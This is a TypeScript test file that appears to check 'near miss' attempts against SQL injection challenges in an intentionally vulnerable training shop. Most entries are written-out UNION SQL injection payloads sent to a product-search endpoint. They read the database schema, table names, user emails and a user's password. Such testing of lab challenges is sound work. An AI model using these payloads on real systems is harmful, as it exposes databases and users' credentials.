import type { NearMiss, Tools } from '#lab'

/** Searches for a text and expects this status. */
async function search({ http, expect }: Tools, term: string, status = 200): Promise<void> {
  const answer = await http.get(`/rest/products/search?q=${encodeURIComponent(term)}`)
  expect(answer.status === status, `the search answered with ${answer.status}`)
}

export const nearMisses: NearMiss[] = [
  {
    challenge: 'dbSchemaChallenge',
    name: 'the recipe of a single table',
    run: (tools) =>
      search(tools, "')) union select sql,2,3,4,5,6,7,8,9 from sqlite_master where name='Users'--"),
  },
  {
    challenge: 'dbSchemaChallenge',
    name: 'the names of all tables, without their recipes',
    run: (tools) => search(tools, "')) union select name,2,3,4,5,6,7,8,9 from sqlite_master--"),
  },
  { challenge: 'dbSchemaChallenge', name: 'one bracket too few', run: (tools) => search(tools, "')--", 500) },
  {
    challenge: 'unionSqlInjectionChallenge',
    name: 'all addresses, but no passwords',
    run: (tools) => search(tools, "')) union select id,email,3,4,5,6,7,8,9 from Users--"),
  },
  {
    challenge: 'unionSqlInjectionChallenge',
    name: 'one customer with everything',
    run: (tools) => search(tools, "')) union select id,email,password,4,5,6,7,8,9 from Users where id=1--"),
  },
  {
    challenge: 'unionSqlInjectionChallenge',
    name: 'an honest search',
    run: (tools) => search(tools, 'apple'),
  },
]
